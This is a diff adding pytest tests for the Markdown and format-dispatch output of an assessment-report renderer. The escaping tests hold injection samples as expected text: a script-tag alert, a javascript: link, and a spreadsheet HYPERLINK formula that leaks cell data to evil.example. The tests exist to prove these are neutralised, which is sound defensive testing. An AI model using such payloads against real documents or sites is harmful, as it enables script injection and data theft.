@@ -6,8 +6,11 @@ from __future__ import annotations
 
 import io
 import re
+import subprocess
+import sys
 import zipfile
 from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 from docx import Document as open_docx
@@ -24,9 +27,13 @@ from PIL import Image
 from assistant.reports.chart import DPI, ROW_IN, WIDTH_IN, area_chart_png
 from assistant.reports.docx import render_docx
 from assistant.reports.format import SECTIONS
+from assistant.reports.markdown import render_markdown
 from assistant.reports.model import AssessmentReport
+from assistant.reports.render import FORMATS, Format, render
 from assistant.reports.xlsx import SHEETS, render_xlsx
 from tests import report_samples as samples
+
+REPO = Path(__file__).resolve().parents[1]
 
 
 @pytest.fixture(scope="module")
@@ -415,3 +422,132 @@ def test_xlsx_is_the_same_bytes_for_the_same_report(middling: AssessmentReport) 
     other = middling.model_copy(update={"overall": 2.5})
     assert render_xlsx(other) != first
     assert load_workbook(io.BytesIO(first)).properties.created == datetime(2027, 2, 3)
+
+
+# --- Markdown ---------------------------------------------------------------------------------------------------
+
+UNESCAPED_PIPE = re.compile(r"(?<!\\)\|")
+
+
+def test_markdown_has_the_docx_sections_in_order(middling: AssessmentReport) -> None:
+    text = render_markdown(middling)
+    assert [line[3:] for line in text.splitlines() if line.startswith("## ")] == list(SECTIONS)
+    assert text.splitlines()[0] == f"# {middling.title}"
+    areas = [line[4:] for line in text.splitlines() if line.startswith("### ")]
+    assert areas[:5] == [a.name for a in middling.areas]
+    assert "#### MC-01 Quality objectives" in text
+    empty = render_markdown(samples.empty())
+    assert "## Change since the previous assessment" not in empty
+    assert "No question is in this report." in empty
+
+
+def test_markdown_tables_have_a_header_and_a_row_per_item(middling: AssessmentReport) -> None:
+    lines = render_markdown(middling).splitlines()
+    start = lines.index("| ID | Area | Kind | Title | Priority | Effort | Owner | Due |")
+    assert lines[start + 1] == "|" + " --- |" * 8
+    rows = lines[start + 2 : start + 2 + len(middling.findings)]
+    assert [r.split(" | ")[0][2:] for r in rows] == [f.id.replace("_", "\\_") for f in middling.findings]
+    assert lines[start + 2 + len(middling.findings)] == ""
+    plan = next(i for i, line in enumerate(lines) if line.startswith("| Opportunity | Goal |"))
+    assert "In progress (OVERDUE)" in lines[plan + 2]
+    for line in lines:
+        if line.startswith("| "):
+            assert len(UNESCAPED_PIPE.findall(line)) in {4, 5, 6, 9, 10}, line  # columns + 1 for every table here
+
+
+def test_markdown_carries_figures_findings_and_answers(middling: AssessmentReport) -> None:
+    text = render_markdown(middling)
+    for expected in (
+        "- **Overall score:** 2.77 (Developing)",
+        "- **Completeness:** 83%",
+        "**Result:** One gate item does not pass",
+        "never scored",
+        "- **Gap:** Objectives cascaded to teams (L4).",
+        "- **Effort:** Months. **Owner:** Anna Keller, due 2027-06-30",
+        "**Anna Keller (Site head), Confirmed, 2027-01-12 09:40 UTC, version 1**",
+        "| Leadership review of progress | Every month | monthly at the quality council |",
+        "| objectives-scorecard.pdf | Seen by an assessor (Maria Chen, 2027-01-20 10:05 UTC) | Uploaded file | "
+        f"{samples.SHA} |",
+        "**Overall score:** 2.41 then, 2.77 now (+0.36).",
+        "| MC-04 | Management review | 3 | 4 |",
+    ):
+        assert expected in text, expected
+    assert "| Objectives cascaded to teams<br>Leadership reviews progress every month |" in text  # two needs
+
+
+def test_markdown_escapes_markup_and_html_in_data(hostile: AssessmentReport) -> None:
+    text = render_markdown(hostile)
+    assert "<script>" not in text
+    assert "<b>" not in text
+    assert "&lt;script&gt;alert('x')&lt;/script&gt;" in text
+    assert not re.search(r"(?<!\\)[`\[\]]", text)  # no code span, no link
+    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
+    lines = text.splitlines()
+    assert "\\- starts like a list" in lines
+    assert "12\\. starts like a numbered list" in lines
+    assert "\\# Heading \\| pipe \\`code\\` \\*\\*bold\\*\\* \\[link\\](javascript:alert(1)) &amp; &lt;b&gt;" in lines
+    assert "\\=HYPERLINK(" in text
+    headings = [line for line in lines if line.startswith("#")]
+    assert all(re.match(r"#{1,4} ", h) for h in headings)
+    assert len([h for h in headings if h.startswith("## ")]) == len(SECTIONS)
+    gate = next(line for line in lines if line.startswith("| \\-1+1 |"))
+    assert len(UNESCAPED_PIPE.findall(gate)) == 6  # the data's '|' does not split a cell
+
+
+def test_markdown_renders_to_html_with_no_markup_from_data(hostile: AssessmentReport) -> None:
+    markdown_it = pytest.importorskip("markdown_it")
+    html = markdown_it.MarkdownIt("commonmark").enable("table").render(render_markdown(hostile))
+    assert "<script" not in html
+    assert "<b>" not in html
+    assert "<a " not in html
+    assert "<code>" not in html
+    assert "<ol" not in html
+    assert html.count("<h1>") == 1
+    assert html.count("<h2>") == len(SECTIONS)
+    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click&quot;)" in html
+    assert "# Heading | pipe `code` **bold** [link](javascript:alert(1)) &amp; &lt;b&gt;" in html
+    assert "<li>- looks like a list</li>" in html
+    assert "<p>12. starts like a numbered list</p>" in html
+
+
+def test_markdown_is_the_same_for_the_same_report(middling: AssessmentReport) -> None:
+    assert render_markdown(middling) == render_markdown(samples.middling())
+
+
+# --- render -----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["docx", "xlsx", "json", "md"])
+def test_render_dispatches_every_format(middling: AssessmentReport, fmt: Format) -> None:
+    data = render(middling, fmt)
+    info = FORMATS[fmt]
+    assert info.suffix == f".{fmt}"
+    if fmt == "docx":
+        assert _headings(open_docx(io.BytesIO(data)), 1) == list(SECTIONS)
+        assert info.media_type == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+    elif fmt == "xlsx":
+        assert load_workbook(io.BytesIO(data)).sheetnames == list(SHEETS)
+        assert info.media_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    elif fmt == "json":
+        assert AssessmentReport.model_validate_json(data) == middling
+        assert info.media_type == "application/json"
+    else:
+        assert data.decode() == render_markdown(middling)
+        assert info.media_type.startswith("text/markdown")
+
+
+def test_render_refuses_an_unknown_format(middling: AssessmentReport) -> None:
+    with pytest.raises(ValueError, match="unknown report format 'pdf'"):
+        render(middling, "pdf")  # type: ignore[arg-type]
+
+
+def test_rendering_markdown_or_json_imports_no_heavy_library() -> None:
+    code = (
+        "import sys\n"
+        "from assistant.reports.render import render\n"
+        "from tests.report_samples import middling\n"
+        "render(middling(), 'md'); render(middling(), 'json')\n"
+        "print(sorted(m for m in ('matplotlib', 'docx', 'openpyxl') if m in sys.modules))\n"
+    )
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=REPO)
+    assert out.stdout.strip() == "[]"
